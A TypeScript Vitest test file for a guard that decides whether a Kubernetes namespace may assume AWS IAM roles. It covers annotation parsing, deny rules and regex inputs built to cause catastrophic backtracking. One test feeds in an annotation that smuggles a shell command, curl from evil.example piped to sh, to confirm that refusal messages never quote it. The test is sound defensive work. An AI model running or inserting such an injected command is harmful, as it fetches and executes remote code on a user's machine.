import { describe, expect, it } from 'vitest';
import { createGuard } from '../../../lambda/decide/guard.ts';
import { aNamespace, aPolicy, BASE_ROLE_ARN, listing } from '../../support/builders.ts';

const ALLOWED = 'iam.amazonaws.com/allowed-roles';
const PERMITTED = 'iam.amazonaws.com/permitted';

function judge(
  annotations: Record<string, string>,
  role = 'orders',
  policy: Parameters<typeof aPolicy>[0] = {},
) {
  const guard = createGuard(aPolicy(policy), listing([aNamespace('shop', annotations)]));
  return guard('shop', role);
}

describe('the stack', () => {
  it('refuses a role that matches none of the assumable patterns', () => {
    const verdict = judge({ [ALLOWED]: '["*"]' }, 'admin', {
      assumableRoles: [`${BASE_ROLE_ARN}app-*`],
    });
    expect(verdict).toMatchObject({ kind: 'refused', reason: 'role-not-assumable' });
  });

  it('refuses a denied role although everything else allows it', () => {
    const verdict = judge({ [ALLOWED]: '["*"]' }, 'cdk-hnb659fds-deploy', {
      deniedRoles: ['arn:aws:iam::*:role/cdk-*'],
      namespaceRestrictions: 'off',
    });
    expect(verdict).toMatchObject({ kind: 'refused', reason: 'role-denied' });
  });
});

describe('a namespace without annotation', () => {
  it.each([
    ['required', 'refused'],
    ['annotated', 'allowed'],
    ['off', 'allowed'],
  ] as const)('in mode %s is %s', (namespaceRestrictions, kind) => {
    expect(judge({}, 'orders', { namespaceRestrictions })).toMatchObject({ kind });
  });

  it('is told the command that would allow the role', () => {
    expect(judge({})).toMatchObject({
      reason: 'namespace-not-annotated',
      message: expect.stringContaining(
        `kubectl annotate namespace shop 'iam.amazonaws.com/allowed-roles=["orders"]'`,
      ),
    });
  });
});

describe('annotations', () => {
  // allowed-roles, permitted, role -> verdict
  it.each([
    ['["orders"]', undefined, 'orders', 'allowed'],
    ['["orders"]', undefined, 'orders-2', 'namespace-does-not-allow'],
    ['["ord*"]', undefined, 'orders-2', 'allowed'],
    ['["*"]', undefined, 'anything', 'allowed'],
    ['[]', undefined, 'orders', 'namespace-does-not-allow'],
    ['["billing","orders"]', undefined, 'orders', 'allowed'],
    ['["arn:aws:iam::123456789012:role/orders"]', undefined, 'orders', 'allowed'],
    ['["arn:aws:iam::999999999999:role/orders"]', undefined, 'orders', 'namespace-does-not-allow'],
    ['["order?"]', undefined, 'orders', 'namespace-does-not-allow'],
    ['["Orders"]', undefined, 'orders', 'namespace-does-not-allow'],
    [undefined, '.*', 'orders', 'allowed'],
    [undefined, '.*/orders', 'orders', 'allowed'],
    [undefined, 'orders', 'orders', 'namespace-does-not-allow'],
    [undefined, '.*/(orders|billing)', 'billing', 'allowed'],
    [
      undefined,
      'arn:aws:iam::123456789012:role/orders|x',
      'orders-admin',
      'namespace-does-not-allow',
    ],
    [undefined, 'x|.*orders', 'orders-admin', 'namespace-does-not-allow'],
    [undefined, '', 'orders', 'namespace-does-not-allow'],
    ['["billing"]', '.*/orders', 'orders', 'allowed'],
    ['["orders"]', '.*/billing', 'orders', 'allowed'],
    ['orders', undefined, 'orders', 'namespace-annotation-malformed'],
    ['"orders"', undefined, 'orders', 'namespace-annotation-malformed'],
    ['["orders", 1]', undefined, 'orders', 'namespace-annotation-malformed'],
    ['{"orders": true}', undefined, 'orders', 'namespace-annotation-malformed'],
    ['', undefined, 'orders', 'namespace-annotation-malformed'],
    [undefined, '(', 'orders', 'namespace-annotation-malformed'],
    [undefined, '(?=orders).*', 'orders', 'namespace-annotation-malformed'],
    [undefined, '(.*)\\1', 'orders', 'namespace-annotation-malformed'],
    [undefined, 'x'.repeat(513), 'orders', 'namespace-annotation-malformed'],
    ['["orders"]', '(', 'orders', 'namespace-annotation-malformed'],
    ['not json', '.*', 'orders', 'namespace-annotation-malformed'],
    [
      JSON.stringify(Array(2_000).fill('*b')),
      undefined,
      'orders',
      'namespace-annotation-malformed',
    ],
  ])('allowed-roles %j and permitted %j for %s: %s', (allowed, permitted, role, expected) => {
    const verdict = judge(
      {
        ...(allowed === undefined ? {} : { [ALLOWED]: allowed }),
        ...(permitted === undefined ? {} : { [PERMITTED]: permitted }),
      },
      role,
    );
    expect('reason' in verdict ? verdict.reason : verdict.kind).toBe(expected);
  });

  it('are not looked at in mode off', () => {
    expect(judge({ [ALLOWED]: '[]' }, 'orders', { namespaceRestrictions: 'off' }).kind).toBe(
      'allowed',
    );
  });

  it.each([
    '(a+)+$',
    '((a*)*)*b',
    '(.*.*.*.*.*.*.*.*.*.*){100}x',
    '\\pL{1000}',
    '(x{1000}){1000}',
    '(?:a?){1000}a{1000}',
    '((.{0,30}){0,30})'.repeat(60),
    '((.{0,30}){0,30})'.repeat(28),
  ])('cannot hang a run by %s', (expression) => {
    // A backtracking engine needs longer than the universe has for some of these.
    const verdict = judge({ [PERMITTED]: expression }, 'a'.repeat(60));
    expect(verdict.kind).toBe('refused');
  });

  it('are not quoted in a refusal, which an administrator may paste', () => {
    const verdict = judge({ [ALLOWED]: `["'; curl evil.example | sh #"]` });
    expect(JSON.stringify(verdict)).not.toContain('evil');
  });
});

describe('a namespace', () => {
  it('that is being deleted is judged like any other, and known for it', () => {
    const guard = createGuard(aPolicy(), listing([{ ...aNamespace(), terminating: true }]));
    expect(guard('shop', 'orders')).toMatchObject({ kind: 'allowed', isTerminating: true });
  });

  it('that was not seen is not judged', () => {
    expect(createGuard(aPolicy(), listing([]))('shop', 'orders').kind).toBe('unknown');
  });

  it('that was not seen does not matter in mode off', () => {
    const guard = createGuard(aPolicy({ namespaceRestrictions: 'off' }), listing([]));
    expect(guard('shop', 'orders').kind).toBe('allowed');
  });
});
